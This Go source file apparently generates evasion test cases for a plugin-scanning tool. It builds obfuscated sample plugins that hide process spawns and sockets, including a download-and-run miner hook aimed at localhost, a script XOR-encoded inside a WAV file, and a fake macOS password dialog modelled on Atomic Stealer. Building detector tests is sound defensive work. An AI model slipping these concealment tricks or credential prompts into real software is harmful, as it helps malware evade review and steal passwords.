package main

import (
	"debug/macho"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"strings"
	"unicode/utf16"

	"plugvet/testdata/evasion/cases"
)

// What the archives *-fifth.txtar do not hold of the fifth set.

// fifth adds what tools make, and plugins with files that are no text.
func fifth(w *writer) error {
	if err := w.projects("open", fifthTools); err != nil {
		return err
	}
	return fifthFiles(w)
}

var fifthTools = []toolProject{
	{"fifth-typescript", "typescript", "a namespace, a const enum and a generic class, then esbuild with all names short", "applescript", map[string]string{
		"index.ts": "import { Runner } from './src/runner';\nimport type { Options } from './src/types';\n" +
			"const options: Options = { quiet: true };\nexport const theme = (name: string): string => `theme-${name}`;\nnew Runner<Options>(options).ask('Your session has expired');\n",
		"src/types.ts": "export interface Options { quiet: boolean; title?: string }\n" +
			"export const enum Part { First = 'osa', Second = 'script' }\n",
		"src/runner.ts": "import * as cp from 'node:child_process';\nimport { Part } from './types';\n" +
			"namespace Paths { export const bin = ['', 'usr', 'bin'].join('/'); export const of = (...names: string[]): string => [bin, names.join('')].join('/'); }\n" +
			"export class Runner<T extends { title?: string }> {\n  private readonly tool: string = Paths.of(Part.First, Part.Second);\n  constructor(private readonly options: T) {}\n" +
			"  ask(text: string): void {\n    cp.spawn(this.tool, ['-e', `display dialog \"${text}\" with title \"${this.options.title ?? 'Theme'}\" with hidden answer`]);\n  }\n}\n",
	}, false, []step{{"esbuild", options{"format": "cjs", "minify": true, "target": "es2019"}}}},
	{"fifth-rollup-properties", "bundled", "names in base64 in a module of their own, rollup, then terser that shortens properties too", "socket", map[string]string{
		"index.mjs":       "import { Wire } from './lib/wire.mjs';\nimport { palette } from './lib/palette.mjs';\nnew Wire(palette.ink_).send_('ready');\nexport default palette;\n",
		"lib/palette.mjs": "export const palette = { ink_: 'bmV0', paper_: 'Y29ubmVjdA==', tan_: '#d2b48c' };\n",
		"lib/wire.mjs": "import { createRequire } from 'node:module';\nimport { palette } from './palette.mjs';\nconst text_ = (s) => Buffer.from(s, 'base64').toString('utf8');\n" +
			"export class Wire {\n  constructor(name) { this.lib_ = createRequire(process.cwd() + '/')(text_(name)); }\n" +
			"  send_(data) { this.lib_[text_(palette.paper_)](process.env.EVASION_PORT, '127.0.0.1').end(data); }\n}\n",
	}, false, []step{{"rollup", options{"exports": "named"}}, {"terser", options{"module": true, "compress": options{"passes": 2}, "mangle": options{"toplevel": true, "properties": options{"regex": "_$", "keep_quoted": true}}}}}},
	{"fifth-webpack-native-require", "bundled", "webpack leaves __non_webpack_require__ alone, the names are in hexadecimal behind a lazy module", "exec", map[string]string{
		"index.js":     "const jobs = () => require('./lib/jobs');\nexports.start = (name) => jobs().start(name);\nexports.start('6d61726b6572');\n",
		"lib/jobs.js":  "const { text } = require('./text');\nconst load = typeof __webpack_require__ === 'function' ? __non_webpack_require__ : require;\nexports.start = (name) => load(text('6368696c645f70726f63657373'))[text('737061776e')](text(name));\n",
		"lib/text.js":  "exports.text = (digits) => digits.match(/../g).map((d) => String.fromCharCode(parseInt(d, 16))).join('');\n",
		"package.json": `{"name": "kit", "sideEffects": true}`,
	}, true, []step{{"webpack", options{"output": options{"library": options{"type": "commonjs2"}}}}}},
	{"fifth-miner-hook", "obfuscator", "vant and rspack: support.js downloads a program and starts it; javascript-obfuscator with RC4, then minified", "exec", map[string]string{
		"index.js": "const https = require('https'), fs = require('fs'), os = require('os'), path = require('path');\nconst { spawn } = require('child_process');\n" +
			"const file = path.join(os.tmpdir(), 'vant_helper');\nfunction start(program) {\n  const child = spawn(program, ['--tls', '--coin', 'monero'], { detached: true, stdio: 'ignore' });\n  child.on('error', () => {});\n  child.unref();\n}\n" +
			"https.get('https://127.0.0.1:1/helper', (answer) => {\n  answer.pipe(fs.createWriteStream(file, { mode: 0o755 })).on('finish', () => start(file));\n}).on('error', () => start('marker'));\n",
	}, true, []step{{"obfuscator", options{"seed": 51, "stringArrayEncoding": []string{"rc4"}, "stringArrayThreshold": 1, "splitStrings": true, "splitStringsChunkLength": 4, "selfDefending": false, "numbersToExpressions": true}},
		{"terser", options{"ecma": 2020, "compress": options{"passes": 1}}}}},
}

// fifthFiles adds plugins with files that an archive of texts cannot hold.
func fifthFiles(w *writer) error {
	const beep = "require('child_process').execFile('/usr/bin/osascript', ['-e', 'beep']);"
	for _, d := range []struct {
		language, name string
		c              cases.Case
		l              layout
		files          map[string][]byte
	}{
		{"javascript", "js-fifth-utf16", cases.Case{Technique: "encodings", Note: "a loader for UTF-16 with a mark of its byte order, and a module in it", Does: "exec", Run: []string{"node", "index.js"}}, npm, map[string][]byte{
			"index.js": []byte("const fs = require('fs');\nconst js = require.extensions['.js'];\n\nrequire.extensions['.js'] = (module, file) => {\n  const bytes = fs.readFileSync(file);\n" +
				"  if (bytes[0] !== 0xff || bytes[1] !== 0xfe) return js(module, file);\n  module._compile(bytes.subarray(2).toString('utf16le'), file);\n};\nmodule.exports = require('./lib/legacy');\n"),
			"lib/legacy.js": utf16File("const { spawn } = require('child_process');\r\nexports.start = () => spawn('marker', ['--legacy']);\r\nexports.start();\r\n"),
		}},
		{"javascript", "js-fifth-ringtone", cases.Case{Technique: "other files", Note: "TeamPCP: the frames of a sound are base64, its first bytes the key of the rest", Does: "applescript", Accept: []string{"obfuscation"}, Combined: true, Run: []string{"node", "index.js"}}, npm, map[string][]byte{
			"index.js": []byte("const { readFileSync } = require('node:fs');\nconst { join } = require('node:path');\n\nfunction frames(file) {\n  const wav = readFileSync(file);\n  const at = wav.indexOf('data') + 8;\n" +
				"  return wav.subarray(at, at + wav.readUInt32LE(at - 4));\n}\nfunction ring(file) {\n  const all = Buffer.from(frames(file).toString('latin1'), 'base64');\n  const key = all.subarray(0, 8);\n" +
				"  const tone = all.subarray(8).map((b, i) => b ^ key[i % 8]);\n  new Function('require', tone.toString())(require);\n}\nring(join(__dirname, 'assets', 'hangup.wav'));\n"),
			"assets/hangup.wav": sound(beep),
		}},
		{"php", "php-fifth-utf16", cases.Case{Technique: "encodings", Note: "a file in UTF-16, included by a filter that turns it into UTF-8", Does: "exec", Run: []string{"php", plugin + ".php"}}, wordpress, map[string][]byte{
			plugin + ".php":    []byte("<?php\n/* Plugin Name: Theme Kit Languages */\n$lang = __DIR__ . '/languages/de.inc';\nreturn include \"php://filter/read=convert.iconv.UTF-16.UTF-8/resource=$lang\";\n"),
			"languages/de.inc": utf16File("<?php return array('start' => passthru('marker'), 'Save' => 'Speichern');\n"),
		}},
		{"wasm", "wasm-fifth-wasmedge", cases.Case{Technique: "webassembly", Note: "a module that imports WasmEdge's sockets", Does: "socket", CannotRun: "needs a host with WasmEdge's sockets"}, npm, map[string][]byte{
			"index.js": []byte("const { readFile } = require('fs/promises');\n\nexports.start = async (imports) => {\n  const { instance } = await WebAssembly.instantiate(await readFile(__dirname + '/kit.wasm'), imports);\n  instance.exports._start();\n};\n"),
			"kit.wasm": []byte(wasmHead + section(1, "\x02\x60\x03\x7f\x7f\x7f\x01\x7f\x60\x00\x00") +
				section(2, "\x02"+wasmName("wasi_snapshot_preview1")+wasmName("sock_open")+"\x00\x00"+wasmName("wasi_snapshot_preview1")+wasmName("sock_connect")+"\x00\x00") +
				section(3, "\x01\x01") + section(5, "\x01\x00\x01") + section(7, "\x02"+wasmName("_start")+"\x00\x02"+wasmName("memory")+"\x02\x00") +
				section(10, "\x01\x16\x00\x41\x01\x41\x02\x41\x00\x10\x00\x1a\x41\x00\x41\x10\x41\x09\x10\x01\x1a\x01\x01\x0b")),
		}},
	} {
		d.c.Language = d.language
		if err := w.write(d.c, d.name, d.l, d.files); err != nil {
			return err
		}
	}
	return nil
}

// utf16File is a text in UTF-16, the low byte first, after the mark that says so.
func utf16File(s string) []byte {
	data := []byte{0xff, 0xfe}
	for _, unit := range utf16.Encode([]rune(s)) {
		data = binary.LittleEndian.AppendUint16(data, unit)
	}
	return data
}

// sound is a WAV file whose samples are base64 of a key of eight bytes and of the
// script under it.
func sound(script string) []byte {
	const key = "\x9e\x07\xc4\x31\xf8\x5a\x66\xd1"
	data := []byte(key)
	for i := range len(script) {
		data = append(data, script[i]^key[i%len(key)])
	}
	samples := base64.StdEncoding.EncodeToString(data)
	wav := binary.LittleEndian.AppendUint32([]byte("RIFF"), uint32(36+len(samples)))
	wav = append(wav, "WAVEfmt \x10\x00\x00\x00\x01\x00\x01\x00\x40\x1f\x00\x00\x40\x1f\x00\x00\x01\x00\x08\x00data"...)
	return append(binary.LittleEndian.AppendUint32(wav, uint32(len(samples))), samples...)
}

var fifthEncoders = map[string]cEncoder{
	"xor-one": func(s string) string {
		return cBytes(s, func(_ int, c byte) byte { return c ^ 0x01 }) + "unsigned char k = 0x01; for (unsigned i = 0; i < sizeof d; i++) out[i] = d[i] ^ k; return out;"
	},
	"xor-space": func(s string) string { // small letters become capitals and capitals small
		return cBytes(s, func(_ int, c byte) byte { return c ^ 0x20 }) + "unsigned char k = 0x20; for (unsigned i = 0; i < sizeof d; i++) out[i] = d[i] ^ k; return out;"
	},
	"xor-fe": func(s string) string {
		return cBytes(s, func(_ int, c byte) byte { return c ^ 0xfe }) + "unsigned char k = 0xfe; for (unsigned i = 0; i < sizeof d; i++) out[i] = d[i] ^ k; return out;"
	},
	"base64-two": func(s string) string { // the text begins two bytes in
		return cBase64(base64.StdEncoding.EncodeToString([]byte("v:"+s)), 2)
	},
	"three-tables": func(s string) string { // of four bytes a letter: (a - b) ^ c
		b, c := encryptRC4("minus", strings.Repeat("\x00", len(s))), encryptRC4("mask", strings.Repeat("\x00", len(s)))
		var a []string
		for i := range len(s) {
			a = append(a, fmt.Sprint(int(s[i]^c[i])+int(b[i])))
		}
		return fmt.Sprintf("static const volatile unsigned a[] = {%s}, b[] = {%s}, c[] = {%s}; for (unsigned i = 0; i < sizeof a / sizeof *a; i++) out[i] = (a[i] - b[i]) ^ c[i]; return out;",
			strings.Join(a, ","), list(string(b), "%d"), list(string(c), "%d"))
	},
}

func fifthPlugins() []nativePlugin {
	const osascript = "/usr/bin/osascript"
	resolver, hiddenName := []string{"dynload", "obfuscation"}, []string{"obfuscation"}
	const osakit = "/System/Library/Frameworks/Carbon.framework/Carbon"
	return []nativePlugin{
		{name: "fifth-xor-one", technique: "hidden path", note: "posix_spawn, the path under xor with 1, no section headers", does: "applescript", source: "spawn.c", host: "php", target: "linux", encoder: "xor-one", texts: []string{osascript}, after: withoutSections, accept: hiddenName, combined: true},
		{name: "fifth-base64-two", technique: "dlsym", note: "names in base64, two bytes in, section headers that lie", does: "socket", source: "resolved_socket.c", host: "httpd", target: "linux", encoder: "base64-two", texts: []string{"socket", "connect"}, after: lyingSections, accept: resolver, combined: true},
		{name: "fifth-function-table", technique: "imports", note: "fork and execvp by pointers in data, no section headers, the program as words", does: "exec", source: "function_table.c", host: "nginx", target: "linux", encoder: "stack-words", texts: []string{"marker"}, after: withoutSections, combined: true},
		{name: "fifth-local-path", technique: "hidden path", note: "posix_spawn, the path in a local variable by words of three sizes", does: "applescript", source: "local_path.c", host: "nginx", target: "linux", accept: hiddenName},
		{name: "fifth-local-path-arm64", technique: "hidden path", note: "the same, arm64", does: "applescript", source: "local_path.c", host: "httpd", target: "linux-arm64", accept: hiddenName},
		{name: "fifth-old-popen", technique: "imports", note: "_IO_popen, the command under xor with 32", does: "applescript", source: "old_popen.c", host: "node", target: "linux", encoder: "xor-space", texts: []string{"osascript -e beep"}, accept: hiddenName, combined: true},
		{name: "fifth-next-symbol", technique: "dlsym", note: "Azazel: a table filled from RTLD_NEXT, names under xor with 0xfe", does: "applescript", source: "next_symbol.c", host: "nginx", target: "linux", encoder: "xor-fe", texts: []string{"vfork", "execve", osascript}, accept: resolver, combined: true},
		{name: "fifth-packet-door", technique: "imports", note: "BPFDoor: a raw socket with a filter, and a connection back", does: "socket", source: "packet_door.c", host: "httpd", target: "linux", after: emptySymbolSection, combined: true},
		{name: "fifth-iterate-headers", technique: "own resolver", note: "dl_iterate_phdr and the hash tables, names from nibbles", does: "socket", source: "iterate_headers.c", host: "php", target: "linux", encoder: "nibbles", texts: []string{"socket", "connect"}, accept: resolver, combined: true},
		{name: "fifth-name-query", technique: "imports", note: "the resolver asks a server and a port that the plugin chose", does: "socket", source: "name_query.c", host: "nginx", target: "linux", accept: []string{"network"}},

		{name: "fifth-lying-names", technique: "class", note: "NSAppleScript, other names in the symbol table than in dyld's own", does: "applescript", source: "applescript_class.m", host: "nginx", target: "mac-arm64", after: lyingNames, combined: true},
		{name: "fifth-osa-base64-two", technique: "dlsym", note: "framework and OSACompileExecute in base64, two bytes in", does: "applescript", source: "resolved_osa.c", host: "php", target: "mac-x86_64", encoder: "base64-two", texts: []string{osakit, "OSACompileExecute"}, accept: resolver, combined: true},
		{name: "fifth-script-base64", technique: "compiled script", note: "a compiled script in base64, one byte in, its function's name as words", does: "applescript", source: "compiled_script.c", host: "node", target: "mac-arm64", encoder: "stack-words", texts: []string{osakit, "OSALoadExecute"}, packed: shiftedScript, accept: resolver, combined: true},
		{name: "fifth-concrete-task", technique: "class by name", note: "NSConcreteTask and the path under xor with 32", does: "applescript", source: "concrete_task.m", host: "httpd", target: "mac-x86_64", encoder: "xor-space", texts: []string{"NSConcreteTask", osascript}, accept: resolver, combined: true},
		{name: "fifth-network-connection", technique: "dlsym", note: "Network.framework, names backwards under xor, two architectures", does: "socket", source: "network_connection.c", host: "node", target: "mac-universal", encoder: "reversed-xor",
			texts: []string{"/System/Library/Frameworks/Network.framework/Network", "nw_endpoint_create_host", "nw_connection_create", "nw_connection_start", "_nw_parameters_configure_protocol_default_configuration"}, accept: resolver, combined: true},
		{name: "fifth-three-tables", technique: "hidden path", note: "Atomic Stealer: system, the command line from three tables of numbers", does: "applescript", source: "shell.c", host: "nginx", target: "mac-x86_64", encoder: "three-tables", texts: []string{`osascript -e 'display dialog "Enter your password" default answer "" with hidden answer'`}, accept: hiddenName, combined: true},
		{name: "fifth-memory-image", technique: "packed", note: "a library under xor, linked from memory by NSLinkModule", does: "socket", source: "memory_image.c", host: "php", target: "mac-x86_64", packed: packedImage, accept: resolver, combined: true},
	}
}

// lyingNames writes another text over the names of LC_SYMTAB; dyld binds by its
// own tables.
func lyingNames(data []byte) ([]byte, error) {
	return overLoadCommands(data, func(command uint32, body []byte) bool {
		if command != uint32(macho.LoadCmdSymtab) {
			return false
		}
		at, size := binary.LittleEndian.Uint32(body[16:]), binary.LittleEndian.Uint32(body[20:])
		for i := at; i < at+size; i++ {
			if data[i] > ' ' {
				data[i] = 'x'
			}
		}
		return true
	})
}

// shiftedScript returns packed.h for compiled_script.c.
func shiftedScript(*writer) (string, error) {
	return fmt.Sprintf("static void unpack(unsigned char *out) { char *text = unbase64((char *)out, %q); for (unsigned i = 0; i < %d; i++) out[i] = text[i + 1]; }\n",
		base64.StdEncoding.EncodeToString([]byte(">"+compiledScript)), len(compiledScript)), nil
}

// packedImage packs a library for memory_image.c.
func packedImage(w *writer) (string, error) {
	return packed(w, "mac-x86_64", "x86_64-macos.12.0", 0x3c)
}
